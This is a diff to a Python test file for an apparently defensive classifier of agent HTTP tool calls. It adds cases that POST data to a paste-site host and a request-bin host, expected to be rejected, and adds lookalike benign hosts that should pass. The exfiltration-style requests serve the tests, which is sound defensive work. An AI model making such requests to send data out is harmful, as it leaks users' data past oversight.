@@ -28,6 +28,18 @@ def _req(url: str, method: str | None = None, **extra: Any) -> dict[str, Any]:
 DANGEROUS: list[tuple[str, dict[str, Any], Outcome, str]] = [
     (
         "http_request",
+        _req("https://paste.example.org/api/v1/pastes", "POST", json={"content": "export"}),
+        REJECTED,
+        "a host named as a paste site",
+    ),
+    (
+        "http_request",
+        _req("https://eo9x1a2b.m.requestbin.example.net/", "POST", json={"a": 1}),
+        REJECTED,
+        "a host named after a request bin",
+    ),
+    (
+        "http_request",
         _req("http://localhost:8000/admin/users/3", "DELETE"),
         REVIEW,
         "an admin path on this machine",
@@ -319,6 +331,8 @@ DANGEROUS: list[tuple[str, dict[str, Any], Outcome, str]] = [
 ]
 
 EVERYDAY: list[tuple[str, dict[str, Any], str]] = [
+    ("http_request", _req("https://pastry.example.com/orders", "POST", json={"a": 1}), "a bakery"),
+    ("http_request", _req("https://bin.acme.dev/upload", "POST", json={"a": 1}), "artifacts"),
     ("http_request", _req("http://localhost:8000/api/todos/17", "DELETE"), "a dev server's API"),
     ("http_request", _req("http://127.0.0.1:3000/api/users/4", "PATCH"), "a dev server's API"),
     (
